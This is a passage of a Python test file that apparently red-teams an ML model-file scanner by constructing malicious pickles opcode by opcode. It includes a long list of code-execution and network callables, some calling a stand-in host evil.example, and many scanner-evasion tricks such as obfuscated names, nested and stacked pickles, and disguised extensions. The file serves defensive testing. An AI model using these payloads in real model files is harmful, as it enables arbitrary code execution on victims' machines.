"""Red-team suite: published scanner-bypass families, rebuilt here byte by byte at test time.

Malicious samples are written opcode by opcode (pickles) or as raw bytes (zips, headers, configs,
templates); benign samples come from stdlib / numpy writers on benign objects or from hand-written
opcode streams shaped like real torch / sklearn / pandas / joblib dumps. NOTHING here is ever loaded,
unpickled, imported or rendered: the scanner only reads bytes.

A sample is "flagged" when the artifact scanner reports a `critical`/`high` finding on it. The suite
prints recall and the false-positive rate and asserts 100% / 0%.
"""

from __future__ import annotations

import bz2
import collections
import datetime
import decimal
import fractions
import gzip
import io
import json
import lzma
import pickle
import struct
import sys
import tarfile
import uuid
import warnings
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from security_format_helpers import gguf_bytes  # noqa: E402
from unveil.security.artifacts import scan_artifacts  # noqa: E402
from unveil.sources.local import open_local  # noqa: E402


# ============================================================== opcode builders
def su(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    b = s.encode("utf-8")
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def sb(b: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    return (b"C" + bytes([len(b)]) + b) if len(b) < 256 else (b"B" + struct.pack("<I", len(b)) + b)


def g0(module: str, name: str) -> bytes:
    """GLOBAL (text form, every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+)."""
    return su(module) + su(name) + b"\x93"


def arg(v: object) -> bytes:
    if isinstance(v, str):
        return su(v)
    if isinstance(v, bytes):
        return sb(v)
    if isinstance(v, bool):
        return b"\x88" if v else b"\x89"
    if isinstance(v, int):
        return b"J" + struct.pack("<i", v)
    if v is None:
        return b"N"
    if isinstance(v, list):
        return b"](" + b"".join(arg(x) for x in v) + b"e"
    if isinstance(v, tuple):
        return b"(" + b"".join(arg(x) for x in v) + b"t"
    if isinstance(v, dict):
        return b"}(" + b"".join(arg(k) + arg(x) for k, x in v.items()) + b"u"
    raise TypeError(v)


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: object) -> bytes:
    """func(*args) via REDUCE; raw bytes in args are inserted as-is (already an expression)."""
    return func + tup(*(a if isinstance(a, bytes) and a[:1] in _EXPR else arg(a) for a in args)) + b"R"


_EXPR = (b"c", b"\x8c", b"(", b"]", b"}", b"\x80", b"h", b"g", b"X")


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def reduce_p2(module: str, name: str, *args: object) -> bytes:
    return p2(call(g0(module, name), *args))


def reduce_p4(module: str, name: str, *args: object) -> bytes:
    return p4(call(sg(module, name), *args))


def getattr_of(obj: bytes, attr: str) -> bytes:
    return call(sg("builtins", "getattr"), obj, attr)


def import_of(name: str) -> bytes:
    return call(sg("builtins", "__import__"), name)


# ============================================================== benign-shaped streams
def torch_state_dict_pickle(storage_cls: str = "FloatStorage", n: int = 3) -> bytes:
    """data.pkl of torch.save(state_dict) as torch writes it (protocol 2, persistent ids)."""
    out = b"\x80\x02" + g0("collections", "OrderedDict") + b")R("
    for i in range(n):
        pid = tup(su("storage"), g0("torch", storage_cls), su(str(i)), su("cpu"), b"K\x04")
        tensor = (
            g0("torch._utils", "_rebuild_tensor_v2")
            + tup(pid + b"Q", b"K\x00", tup(b"K\x02", b"K\x02"), tup(b"K\x02", b"K\x01"), b"\x89",
                  g0("collections", "OrderedDict") + b")R")
            + b"R"
        )
        out += su(f"layer{i}.weight") + tensor
    meta = g0("collections", "OrderedDict") + b")R" + su("") + arg({"version": 1}) + b"s"
    out += b"u" + su("_metadata") + meta + b"b"
    return out + b"."


def torch_param_pickle() -> bytes:
    pid = tup(su("storage"), g0("torch", "HalfStorage"), su("0"), su("cuda:0"), b"K\x10")
    tensor = (
        g0("torch._utils", "_rebuild_tensor_v2")
        + tup(pid + b"Q", b"K\x00", tup(b"K\x04", b"K\x04"), tup(b"K\x04", b"K\x01"), b"\x89",
              g0("collections", "OrderedDict") + b")R")
        + b"R"
    )
    hooks = g0("collections", "OrderedDict") + b")R"
    param = g0("torch._utils", "_rebuild_parameter") + tup(tensor, b"\x88", hooks) + b"R"
    return b"\x80\x02}(" + su("w") + param + su("step") + b"K\x07u."


def torch_full_module_pickle() -> bytes:
    """torch.save(nn.Sequential(...)) shape: module classes rebuilt with NEWOBJ + BUILD dict."""
    pid = tup(su("storage"), g0("torch", "FloatStorage"), su("0"), su("cpu"), b"K\x04")
    tensor = (
        g0("torch._utils", "_rebuild_tensor_v2")
        + tup(pid + b"Q", b"K\x00", tup(b"K\x02", b"K\x02"), tup(b"K\x02", b"K\x01"), b"\x89",
              g0("collections", "OrderedDict") + b")R")
        + b"R"
    )
    hooks = g0("collections", "OrderedDict") + b")R"
    param = g0("torch._utils", "_rebuild_parameter") + tup(tensor, b"\x88", hooks) + b"R"
    linear = (
        g0("torch.nn.modules.linear", "Linear") + b")\x81}("
        + su("training") + b"\x88"
        + su("_parameters") + g0("collections", "OrderedDict") + b")R" + su("weight") + param + b"s"
        + su("_buffers") + g0("collections", "OrderedDict") + b")R"
        + su("in_features") + b"K\x02" + su("out_features") + b"K\x02"
        + b"ub"
    )
    act = (
        g0("torch.nn.modules.activation", "GELU") + b")\x81}(" + su("approximate") + su("none") + b"ub"
    )
    enc = (
        g0("torch.nn.modules.transformer", "TransformerEncoderLayer") + b")\x81}("
        + su("activation") + g0("torch.nn.functional", "relu")
        + su("norm_first") + b"\x89" + b"ub"
    )
    seq = (
        g0("torch.nn.modules.container", "Sequential") + b")\x81}("
        + su("_modules") + g0("collections", "OrderedDict") + b")R("
        + su("0") + linear + su("1") + act + su("2") + enc + b"u"
        + su("_forward_hooks") + g0("collections", "OrderedDict") + b")R"
        + b"ub"
    )
    return b"\x80\x02" + seq + b"."


def torch_optimizer_pickle() -> bytes:
    return pickle.dumps(
        {
            "epoch": 3,
            "optimizer": {"state": {0: {"step": 10}}, "param_groups": [{"lr": 0.001, "betas": (0.9, 0.999)}]},
            "hyper_parameters": {"lr": 1e-3, "name": "run-1", "layers": [64, 64]},
            "callbacks": collections.OrderedDict(a=1),
        },
        protocol=2,
    )


def torch_zip(data_pkl: bytes, *, prefix: str = "archive", extra: dict[str, bytes] | None = None,
              method: int = zipfile.ZIP_STORED, zip64: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        if zip64:
            with zf.open(f"{prefix}/data.pkl", "w", force_zip64=True) as fh:
                fh.write(data_pkl)
        else:
            zf.writestr(f"{prefix}/data.pkl", data_pkl)
        zf.writestr(f"{prefix}/byteorder", b"little")
        for i in range(2):
            zf.writestr(f"{prefix}/data/{i}", b"\x00" * 16)
        zf.writestr(f"{prefix}/version", b"3\n")
        zf.writestr(f"{prefix}/.data/serialization_id", b"1234567890")
        for name, data in (extra or {}).items():
            zf.writestr(f"{prefix}/{name}", data)
    return buf.getvalue()


def legacy_torch(pickles: list[bytes]) -> bytes:
    return b"".join(pickles) + b"\x00" * 64


LEGACY_MAGIC = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."


def legacy_benign() -> bytes:
    return legacy_torch([
        LEGACY_MAGIC,
        b"\x80\x02M\xe9\x03.",
        pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, protocol=2),
        torch_state_dict_pickle(),
        pickle.dumps(["0", "1", "2"], protocol=2),
    ])


def ndarray_reconstruct(dtype: str = "f8", shape: tuple = (3,), raw: bytes = b"\x00" * 24) -> bytes:
    """numpy array as pickle writes it: _reconstruct + BUILD (version, shape, dtype, fortran, bytes)."""
    dt = (
        g0("numpy", "dtype") + tup(su(dtype), b"\x89", b"\x88") + b"R"
        + tup(b"K\x03", su("<"), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x00") + b"b"
    )
    return (
        g0("numpy.core.multiarray", "_reconstruct")
        + tup(g0("numpy", "ndarray"), tup(b"K\x00"), sb(b"b"))
        + b"R"
        + tup(b"K\x01", tup(*(b"K" + bytes([d]) for d in shape)), dt, b"\x89", sb(raw))
        + b"b"
    )


def sklearn_pickle() -> bytes:
    """LogisticRegression-shaped pickle: NEWOBJ via copyreg + BUILD dict with numpy arrays."""
    est = (
        g0("copyreg", "_reconstructor")
        + tup(g0("sklearn.linear_model._logistic", "LogisticRegression"), g0("builtins", "object"), b"N")
        + b"R}("
        + su("penalty") + su("l2") + su("C") + b"G?\xf0\x00\x00\x00\x00\x00\x00"
        + su("coef_") + ndarray_reconstruct()
        + su("classes_") + ndarray_reconstruct("i8")
        + su("n_iter_") + ndarray_reconstruct("i4", (1,), b"\x00" * 4)
        + su("_sklearn_version") + su("1.5.0")
        + b"ub"
    )
    scaler = (
        g0("sklearn.preprocessing._data", "StandardScaler") + b")\x81}("
        + su("with_mean") + b"\x88" + su("mean_") + ndarray_reconstruct() + su("n_samples_seen_")
        + g0("numpy.core.multiarray", "scalar") + tup(g0("numpy", "dtype") + tup(su("i8"), b"\x89", b"\x88") + b"R",
                                                        sb(b"\x05" + b"\x00" * 7)) + b"R"
        + b"ub"
    )
    pipe = (
        g0("sklearn.pipeline", "Pipeline") + b")\x81}("
        + su("steps") + b"](" + tup(su("scale"), scaler) + tup(su("clf"), est) + b"e"
        + su("memory") + b"N" + b"ub"
    )
    return b"\x80\x02" + pipe + b"."


def pandas_pickle() -> bytes:
    """DataFrame.to_pickle shape (pandas 2.x): BlockManager, _unpickle_block, _new_Index, RangeIndex."""
    index = (
        g0("pandas.core.indexes.base", "_new_Index")
        + tup(g0("pandas.core.indexes.range", "RangeIndex"), arg({"name": None, "start": 0, "stop": 3, "step": 1}))
        + b"R"
    )
    cols = (
        g0("pandas.core.indexes.base", "_new_Index")
        + tup(g0("pandas.core.indexes.base", "Index"), b"}(" + su("data") + ndarray_reconstruct("O", (2,), b"")
              + su("name") + b"Nu")
        + b"R"
    )
    block = (
        g0("pandas._libs.internals", "_unpickle_block")
        + tup(ndarray_reconstruct(), g0("builtins", "slice") + tup(b"K\x00", b"K\x02", b"K\x01") + b"R", b"K\x02")
        + b"R"
    )
    mgr = (
        g0("pandas.core.internals.managers", "BlockManager") + b")\x81"
        + tup(b"](" + cols + index + b"e", b"](" + block + b"e", b"](" + cols + b"e",
              arg({"0.14.1": {"axes": [], "blocks": []}}))
        + b"b"
    )
    frame = (
        g0("pandas.core.frame", "DataFrame") + b")\x81}("
        + su("_mgr") + mgr + su("_typ") + su("dataframe") + su("_metadata") + b"]"
        + su("attrs") + b"}" + su("_flags") + arg({"allows_duplicate_labels": True})
        + b"ub"
    )
    return b"\x80\x04" + frame + b"."


def joblib_plain(payload_obj: bytes | None = None) -> bytes:
    """joblib.dump of {'coef': array} shape: NumpyArrayWrapper BUILD then raw array bytes inline."""
    dt = (
        g0("numpy", "dtype") + tup(su("f8"), b"\x89", b"\x88") + b"R"
        + tup(b"K\x03", su("<"), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x00") + b"b"
    )
    wrapper = (
        g0("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
        + su("subclass") + g0("numpy", "ndarray") + su("shape") + tup(b"K\x03") + su("order") + su("C")
        + su("dtype") + dt + su("allow_mmap") + b"\x89" + su("numpy_array_alignment_bytes") + b"K\x10"
        + b"ub"
    )
    padding = b"\x05" + b"\xff" * 5
    extra = payload_obj or su("meta")
    return b"\x80\x04}(" + su("coef") + wrapper + padding + b"\x00" * 24 + su("meta") + extra + b"u."


def joblib_object_array(embedded: bytes) -> bytes:
    """joblib writes an object-dtype array as a whole pickle right after the wrapper's BUILD."""
    dt = (
        g0("numpy", "dtype") + tup(su("O8"), b"\x89", b"\x88") + b"R"
        + tup(b"K\x03", su("|"), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K?") + b"b"
    )
    wrapper = (
        g0("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
        + su("subclass") + g0("numpy", "ndarray") + su("shape") + tup(b"K\x01") + su("order") + su("C")
        + su("dtype") + dt + su("allow_mmap") + b"\x89" + b"ub"
    )
    return b"\x80\x04}(" + su("coef") + wrapper + embedded + b"u."


def _duplicate_member_zip(first: bytes, second: bytes) -> bytes:
    import warnings as _w

    buf = io.BytesIO()
    with _w.catch_warnings():
        _w.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("archive/data.pkl", first)
            zf.writestr("archive/version", b"3\n")
            zf.writestr("archive/data.pkl", second)
    return buf.getvalue()


# ============================================================== malicious samples
CMD = "touch /tmp/unveil_bypass_marker"
CODE = "open('/tmp/unveil_bypass_marker','w').write('x')"

# (module, name, args): callables that run code, spawn processes, load nested pickles, touch files or
# the network, many of them missed by public scanners in 2025-26 advisories.
DANGEROUS_CALLS: list[tuple[str, str, tuple]] = [
    ("pip._internal", "main", (["install", "evil-pkg"],)),
    ("pip._internal.cli.main", "main", (["install", "evil-pkg"],)),
    ("pip", "main", (["install", "evil-pkg"],)),
    ("ensurepip", "bootstrap", ()),
    ("ensurepip", "_run_pip", (["install", "evil"],)),
    ("venv", "create", ("/tmp/unveil_venv",)),
    ("code", "InteractiveInterpreter.runsource", (CODE,)),
    ("code", "InteractiveConsole.push", (CODE,)),
    ("code", "interact", ()),
    ("codeop", "compile_command", (CODE,)),
    ("cProfile", "run", (CODE,)),
    ("cProfile", "runctx", (CODE, {}, {})),
    ("profile", "run", (CODE,)),
    ("profile", "Profile.runctx", (CODE, {}, {})),
    ("pdb", "run", (CODE,)),
    ("pdb", "runeval", (CODE,)),
    ("bdb", "Bdb.run", (CODE,)),
    ("timeit", "timeit", (CODE,)),
    ("timeit", "Timer.timeit", ()),
    ("trace", "Trace.runctx", (CODE, {}, {})),
    ("doctest", "debug_script", (CODE,)),
    ("doctest", "run_docstring_examples", (CODE, {})),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", (CODE,)),
    ("idlelib.run", "Executive.runcode", (CODE,)),
    ("idlelib.calltip", "Calltip.fetch_tip", (CODE,)),
    ("lib2to3.pgen2.grammar", "Grammar.load", ("/tmp/evil.pickle",)),
    ("lib2to3.pgen2.driver", "load_grammar", ("/tmp/evil.txt",)),
    ("numpy.testing._private.utils", "runstring", (CODE, {})),
    ("numpy.f2py", "compile", (CODE,)),
    ("numpy", "load", ("/tmp/evil.npy", None, True)),
    ("numpy.lib.format", "read_array", ("/tmp/evil.npy",)),
    ("torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {})),
    ("torch._inductor.codecache", "compile_file", ("/tmp/a.cpp", "/tmp/a.so", ["-x"])),
    ("torch._inductor.codecache", "PyCodeCache.load", (CODE,)),
    ("torch.jit", "load", ("/tmp/evil.pt",)),
    ("torch.jit._serialization", "load", ("/tmp/evil.pt",)),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE,)),
    ("torch.serialization", "load", ("/tmp/evil.pt",)),
    ("torch", "load", ("/tmp/evil.pt",)),
    ("torch.hub", "load", ("attacker/repo", "model")),
    ("torch.hub", "download_url_to_file", ("http://x/y", "/tmp/z")),
    ("torch.utils.model_zoo", "load_url", ("http://x/y",)),
    ("torch.fx.graph_module", "_forward_from_src", (CODE, {})),
    ("torch.fx.graph_module", "reduce_graph_module", ({}, CODE)),
    ("torch._dynamo.guards", "GuardBuilder.get", (CODE,)),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (CODE, [])),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"\x80\x02N.")),
    ("torch.utils._config_module", "ConfigModule.load_config", (b"\x80\x02N.",)),
    ("torch.utils.collect_env", "run", (CMD,)),
    ("torch.utils.cpp_extension", "load_inline", ("x", CODE)),
    ("torch.package", "PackageImporter", ("/tmp/evil.pt",)),
    ("torch.distributed.rpc", "rpc_sync", ("worker", "eval", (CODE,))),
    ("torch._C", "_jit_pass_inline", ()),
    ("torch.ops", "load_library", ("/tmp/evil.so",)),
    ("torch.library", "Library", ("evil", "DEF")),
    ("asyncio.subprocess", "create_subprocess_shell", (CMD,)),
    ("asyncio", "create_subprocess_exec", ("sh", "-c", CMD)),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", ()),
    ("asyncio.base_events", "BaseEventLoop.subprocess_shell", ()),
    ("_posixsubprocess", "fork_exec", ()),
    ("multiprocessing.util", "spawnv_passfds", ("/bin/sh", ["-c", CMD], ())),
    ("multiprocessing.popen_fork", "Popen", ()),
    ("multiprocessing.spawn", "spawn_main", ()),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("ctypes", "cdll.LoadLibrary", ("libc.so.6",)),
    ("_ctypes", "dlopen", ("libc.so.6",)),
    ("marshal", "loads", (b"\xe3\x00\x00\x00",)),
    ("types", "FunctionType", ()),
    ("types", "CodeType", ()),
    ("pickle", "loads", (b"\x80\x02N.",)),
    ("_pickle", "loads", (b"\x80\x02N.",)),
    ("pickle", "_Unpickler.load", ()),
    ("dill", "loads", (b"\x80\x02N.",)),
    ("dill._dill", "_create_code", ()),
    ("cloudpickle.cloudpickle", "_make_function", ()),
    ("joblib.externals.cloudpickle.cloudpickle", "_make_function", ()),
    ("joblib", "load", ("/tmp/evil.joblib",)),
    ("pandas", "read_pickle", ("/tmp/evil.pkl",)),
    ("pandas.io.pickle", "read_pickle", ("/tmp/evil.pkl",)),
    ("pandas.core.computation.eval", "eval", (CODE,)),
    ("pandas.io.parsers.readers", "read_csv", ("http://x/y",)),
    ("pydoc", "pipepager", ("x", CMD)),
    ("_pyrepl.pager", "pipe_pager", ("x", CMD)),
    ("_osx_support", "_read_output", (CMD,)),
    ("_aix_support", "_read_cmd_output", (CMD,)),
    ("uuid", "_get_command_stdout", ("sh", "-c", CMD)),
    ("platform", "_syscmd_file", ("/tmp/x",)),
    ("distutils.file_util", "write_file", ("/tmp/x", ["y"])),
    ("setuptools.sandbox", "run_setup", ("/tmp/setup.py", [])),
    ("site", "addsitedir", ("/tmp/evil",)),
    ("sysconfig", "_init_posix", ({},)),
    ("shelve", "open", ("/tmp/evil",)),
    ("dbm", "open", ("/tmp/evil", "c")),
    ("zipimport", "zipimporter", ("/tmp/evil.zip",)),
    ("runpy", "run_path", ("/tmp/evil.py",)),
    ("runpy", "run_module", ("evil",)),
    ("builtins", "breakpoint", ()),
    ("builtins", "open", ("/tmp/x", "w")),
    ("builtins", "compile", (CODE, "x", "exec")),
    ("builtins", "exec", (CODE,)),
    ("__builtin__", "eval", (CODE,)),
    ("io", "open", ("/tmp/x", "w")),
    ("_io", "FileIO", ("/tmp/x", "w")),
    ("codecs", "open", ("/tmp/x", "w")),
    ("os", "system", (CMD,)),
    ("os.path", "os.system", (CMD,)),
    ("posix", "posix_spawn", ("/bin/sh", ["sh"], {})),
    ("subprocess", "getoutput", (CMD,)),
    ("pty", "spawn", ("/bin/sh",)),
    ("shutil", "rmtree", ("/tmp/x",)),
    ("shutil", "copyfile", ("/etc/passwd", "/tmp/x")),
    ("tempfile", "mkdtemp", ()),
    ("tarfile", "open", ("/tmp/x.tar",)),
    ("zipfile", "ZipFile.extractall", ()),
    ("glob", "glob", ("/etc/*",)),
    ("sys", "modules.get", ("os",)),
    ("gc", "get_objects", ()),
    ("inspect", "getsource", ()),
    ("threading", "Thread", ()),
    ("_thread", "start_new_thread", ()),
    ("signal", "signal", (2, 0)),
    ("mmap", "mmap", (-1, 10)),
    ("sqlite3", "connect", ("/tmp/x.db",)),
    ("socket", "create_connection", (("evil.example", 4444),)),
    ("ssl", "get_server_certificate", (("evil.example", 443),)),
    ("smtplib", "SMTP", ("evil.example",)),
    ("http.client", "HTTPSConnection", ("evil.example",)),
    ("urllib.request", "urlopen", ("http://evil.example",)),
    ("urllib.request", "urlretrieve", ("http://evil.example", "/tmp/x")),
    ("requests", "get", ("http://evil.example",)),
    ("httpx", "get", ("http://evil.example",)),
    ("ftplib", "FTP", ("evil.example",)),
    ("telnetlib", "Telnet", ("evil.example",)),
    ("xmlrpc.client", "ServerProxy", ("http://evil.example",)),
    ("webbrowser", "open_new_tab", ("http://evil.example",)),
    ("logging.config", "listen", (9999,)),
    ("logging", "os.system", (CMD,)),
    ("logging.handlers", "SysLogHandler", (("evil.example", 514),)),
    ("keras.models", "load_model", ("/tmp/evil.keras",)),
    ("keras.saving", "load_model", ("/tmp/evil.keras",)),
    ("keras.src.saving.saving_api", "load_model", ("/tmp/evil.keras",)),
    ("keras.utils", "get_file", ("x", "http://evil.example")),
    ("keras.config", "enable_unsafe_deserialization", ()),
    ("tensorflow.keras.models", "load_model", ("/tmp/evil.h5",)),
    ("tensorflow.io.gfile", "GFile", ("/tmp/x", "w")),
    ("tensorflow", "py_function", ()),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system ['id']",)),
    ("jinja2", "Template", ("{{ x }}",)),
    ("IPython", "get_ipython", ()),
    ("importlib", "import_module", ("os",)),
    ("importlib.machinery", "SourceFileLoader", ("x", "/tmp/evil.py")),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("copyreg", "add_extension", ("os", "system", 1)),
    ("operator", "methodcaller", ("system", CMD)),
    ("collections", "_sys.modules", ()),
    ("random", "_os.system", (CMD,)),
    ("tempfile", "_os.system", (CMD,)),
    ("numpy.core.multiarray", "_reconstruct.__globals__", ()),
    ("torch._utils", "_rebuild_tensor.__builtins__", ()),
    ("torch", "serialization.load", ("/tmp/evil.pt",)),
    ("torch", "hub.load", ("attacker/repo", "m")),
    ("numpy", "testing._private.utils.runstring", (CODE, {})),
    ("numpy", "lib.npyio.load", ("/tmp/evil.npy",)),
    ("collections", "OrderedDict.__init__.__globals__", ()),
    ("builtins", "getattr.__self__", ()),
    ("torch.nn.modules.module", "Module.__subclasses__", ()),
    ("sklearn.utils._testing", "TempMemmap", ()),
    ("__main__", "__builtins__.exec", (CODE,)),
]


def _id(mod: str, name: str) -> str:
    return f"{mod}.{name}".replace("/", "_")


def malicious_samples() -> dict[str, bytes]:
    s: dict[str, bytes] = {}
    for mod, name, args in DANGEROUS_CALLS:
        s[f"call_p2_{_id(mod, name)}.pkl"] = reduce_p2(mod, name, *args)
        if "." not in name:
            s[f"call_p4_{_id(mod, name)}.bin"] = reduce_p4(mod, name, *args)
    # --- indirection: the dangerous callable is produced by another call ---------------------
    s["getattr_import_os_system.pkl"] = p4(call(getattr_of(import_of("os"), "system"), CMD))
    s["getattr_import_subprocess.pkl"] = p4(call(getattr_of(import_of("subprocess"), "check_call"), ["sh", "-c"]))
    s["importlib_import_module.pkl"] = p4(call(getattr_of(call(sg("importlib", "import_module"), "os"), "system"), CMD))
    s["attrgetter_on_module.pkl"] = p4(
        call(call(call(sg("operator", "attrgetter"), "system"), call(sg("importlib", "import_module"), "os")), CMD)
    )
    s["attrgetter_dotted_allowed_module.pkl"] = p4(
        call(call(call(sg("_operator", "attrgetter"), "multiarray._reconstruct.__globals__"),
                  sg("numpy", "core")), )
    )
    s["methodcaller_on_import.pkl"] = p4(call(call(sg("operator", "methodcaller"), "system", CMD), import_of("os")))
    s["partial_os_system.pkl"] = p4(call(call(sg("functools", "partial"), sg("os", "system"), CMD)))
    s["reduce_getattr_chain.pkl"] = p4(
        call(call(sg("functools", "reduce"), sg("builtins", "getattr"), ["_sys", "modules"],
                  sg("collections", "deque")))
    )
    s["operator_call.pkl"] = p4(call(sg("operator", "call"), sg("posix", "system"), CMD))
    s["getattr_builtins_chain.pkl"] = p4(
        call(getattr_of(getattr_of(sg("numpy.core.multiarray", "_reconstruct"), "__globals__"), "get"), "__builtins__")
    )
    s["getattr_computed_name.pkl"] = p4(
        call(getattr_of(sg("collections", "OrderedDict"), "fromkeys"), ["a"]) + b"0"
        + call(call(sg("builtins", "getattr"), import_of("posix"),
                    call(sg("_codecs", "encode"), "system", "latin1")), CMD)
    )
    s["sys_modules_itemgetter.pkl"] = p4(
        call(getattr_of(call(call(sg("operator", "itemgetter"), "os"), sg("sys", "modules")), "system"), CMD)
    )
    s["getattr_dynamic_object_call.pkl"] = p4(
        call(getattr_of(call(sg("collections", "OrderedDict")), "__class__"))
    )
    s["copyreg_reconstructor_popen.pkl"] = p2(
        call(g0("copyreg", "_reconstructor"), g0("subprocess", "Popen"), g0("subprocess", "Popen"), CMD)
    )
    s["build_setstate_hook.pkl"] = p2(
        g0("collections", "OrderedDict") + b")R" + b"N}(" + su("__setstate__") + g0("builtins", "exec") + b"u\x86b"
        + b"0" + g0("collections", "OrderedDict") + b")R"
    )
    s["build_setstate_allowed_callable.pkl"] = p2(
        g0("argparse", "Namespace") + b")\x81" + b"}(" + su("__setstate__") + g0("functools", "partial") + b"ub"
        + arg(CODE) + b"b"
    )
    s["build_patches_class.pkl"] = p2(g0("collections", "OrderedDict") + arg({"__reduce_ex__": 1}) + b"b")
    s["reduce_ex_dangerous_newobj.pkl"] = p2(g0("subprocess", "Popen") + tup(su("sh")) + b"\x81")
    s["newobj_ex_dangerous.pkl"] = p4(sg("subprocess", "Popen") + tup(su("sh")) + b"}\x92")
    # --- memo / opcode-level obfuscation -------------------------------------------------------
    s["memo_stack_global.pkl"] = p4(
        su("o" + "s") + b"\x94" + su("sys" + "tem") + b"\x94" + b"00" + su("pad") + b"0"
        + b"h\x00h\x01\x93" + su(CMD) + b"\x85R"
    )
    s["memo_long_binput.pkl"] = p2(
        su("posix") + b"r" + struct.pack("<I", 7000) + su("system") + b"r" + struct.pack("<I", 7001) + b"00"
        + b"j" + struct.pack("<I", 7000) + b"j" + struct.pack("<I", 7001) + b"\x93" + su(CMD) + b"\x85R"
    )
    s["p0_text_memo_stack_global.pkl"] = b"Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93(V" + CMD.encode() + b"\ntR."
    s["p0_inst.pkl"] = b"(S'" + CMD.encode() + b"'\nios\nsystem\n."
    s["p0_inst_subprocess.pkl"] = b"(S'sh'\nisubprocess\ngetoutput\n."
    s["p1_obj.pkl"] = b"(cposix\nsystem\nS'" + CMD.encode() + b"'\no."
    s["p1_obj_memo.pkl"] = b"cbuiltins\nexec\nq\x000(h\x00X" + struct.pack("<I", len(CODE)) + CODE.encode() + b"o."
    s["unicode_fullwidth_module.pkl"] = reduce_p4("ｏｓ", "system", CMD)
    s["unicode_fullwidth_name.pkl"] = reduce_p4("builtins", "ｅｖａｌ", CODE)
    s["whitespace_module.pkl"] = reduce_p4("os ", "system", CMD)
    s["whitespace_name.pkl"] = reduce_p4("builtins", " exec", CODE)
    s["tab_module.pkl"] = reduce_p2("subprocess\t", "Popen", CMD)
    s["ext1_registered.pkl"] = p2(
        call(g0("copyreg", "add_extension"), "posix", "system", 240) + b"0" + b"\x82\xf0" + tup(su(CMD)) + b"R"
    )
    s["ext2_unregistered_call.pkl"] = p2(b"\x83\x10\x27" + tup(su(CMD)) + b"R")
    s["ext4_call.pkl"] = p2(b"\x84\x10\x27\x00\x00" + tup(su(CMD)) + b"R")
    s["persid_dangerous_global.pkl"] = p2(
        tup(su("storage"), g0("os", "system"), su("0"), su("cpu"), b"K\x01") + b"Q"
    )
    s["persid_text.pkl"] = b"Pevil\n" + g0("builtins", "eval") + b"(S'1'\ntR" + b"."
    s["nested_bytes_pickle.pkl"] = p2(
        call(g0("torch.storage", "_load_from_bytes"), reduce_p2("os", "system", CMD))
    )
    s["nested_bytes_torch_zip.pkl"] = p2(
        call(g0("torch.storage", "_load_from_bytes"), torch_zip(reduce_p2("os", "system", CMD)))
    )
    # torch's legacy loader reads a tar whose `pickle` member it unpickles (no leading magic: "ustar" at 257)
    s["nested_bytes_legacy_tar.pkl"] = p2(
        call(g0("torch.storage", "_load_from_bytes"), _tar({"sys_info": b"\x80\x02}q\x00.",
                                                           "pickle": reduce_p2("os", "system", CMD)}))
    )
    s["nested_codecs_encode_legacy_tar.pkl"] = p2(
        call(g0("torch.storage", "_load_from_bytes"),
             call(g0("_codecs", "encode"), _tar({"pickle": reduce_p2("os", "system", CMD)}).decode("latin-1"),
                  "latin1"))
    )
    s["nested_codecs_encode_str.pkl"] = p2(
        call(g0("torch.storage", "_load_from_bytes"),
             call(g0("_codecs", "encode"), reduce_p2("os", "system", CMD).decode("latin-1"), "latin1"))
    )
    s["nested_zlib_bytes.pkl"] = p2(call(g0("pickle", "loads"), zlib.compress(reduce_p2("os", "system", CMD))))
    s["nested_in_numpy_frombuffer.pkl"] = p2(
        call(g0("numpy.core.numeric", "_frombuffer"), bz2.compress(reduce_p2("os", "system", CMD)), "O", (1,), "C")
    )
    # --- stacked / trailing ---------------------------------------------------------------------
    s["stacked_benign_then_evil.pkl"] = pickle.dumps({"a": 1}, protocol=2) + reduce_p4("os", "system", CMD)
    s["stacked_three.pkl"] = (
        pickle.dumps([1], protocol=4) + pickle.dumps("x", protocol=0) + reduce_p2("subprocess", "call", CMD)
    )
    s["stacked_after_garbage.pkl"] = pickle.dumps({"a": 1}, protocol=2) + b"\x00GARBAGE\xff" + reduce_p4(
        "os", "system", CMD
    )
    s["prefixed_garbage_then_pickle.bin"] = b"\x00\x01JUNKJUNK" * 8 + reduce_p4("os", "system", CMD)
    s["benign_frame_then_evil_p5.pkl"] = pickle.dumps(list(range(50)), protocol=5) + reduce_p4("builtins", "exec", CODE)
    # --- extension / naming tricks -------------------------------------------------------------
    evil = reduce_p4("os", "system", CMD)
    s["pickle_as.safetensors"] = evil
    s["pickle_as.txt"] = evil
    s["pickle_no_extension"] = evil
